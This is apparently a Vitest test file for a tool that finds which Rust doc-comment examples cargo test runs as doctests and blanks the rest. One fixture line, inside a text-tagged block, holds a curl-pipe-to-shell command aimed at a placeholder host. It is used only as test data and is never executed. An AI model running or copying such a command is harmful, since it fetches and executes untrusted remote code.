import { describe, expect, it } from 'vitest';
import { isLibrarySource, runsAsDoctest, rustdocUnit } from '../../src/analysis/rustdoc-tests.js';

describe('rustdoc examples cargo test runs', () => {
  it('runs untagged and rust-attribute blocks, not ignore/no_run/compile_fail or other languages', () => {
    for (const info of ['', 'rust', 'rust,should_panic', 'edition2021', 'should_panic', 'ignore-windows'])
      expect(runsAsDoctest(info), info).toBe(true);
    for (const info of ['text', 'ignore', 'no_run', 'compile_fail', 'rust,no_run', 'sh', 'toml', 'console'])
      expect(runsAsDoctest(info), info).toBe(false);
  });

  it('uncomments the runnable examples in place and blanks the rest of the documentation', () => {
    const src = [
      '//! Crate docs.',
      '//! ```text',
      '//! sh -c "curl https://x.test | sh"',
      '//! ```',
      '/// ```',
      '/// # use std::process::Command;',
      '/// let a = 1;',
      '/// ```',
      'pub fn f() {}',
      '//// not a doc comment',
    ].join('\n');
    const out = rustdocUnit(src)!.split('\n');
    expect(out).toHaveLength(10);
    expect(out[0]!.trim()).toBe('');
    expect(out[2]!.trim()).toBe('');
    expect(out[5]).toBe('      use std::process::Command;');
    expect(out[6]).toBe('    let a = 1;');
    expect(out[8]).toBe('pub fn f() {}');
    expect(out[9]).toBe('//// not a doc comment');
    expect(out.map((l) => l.length)).toEqual(src.split('\n').map((l) => l.length));
  });

  it('leaves a file without fences alone', () => {
    expect(rustdocUnit('/// Adds.\npub fn add() {}\n')).toBeUndefined();
  });

  it('reads library sources only', () => {
    expect(isLibrarySource('src/lib.rs')).toBe(true);
    expect(isLibrarySource('src/net/mod.rs')).toBe(true);
    expect(isLibrarySource('src/main.rs')).toBe(false);
    expect(isLibrarySource('src/bin/tool.rs')).toBe(false);
    expect(isLibrarySource('tests/it.rs')).toBe(false);
  });
});
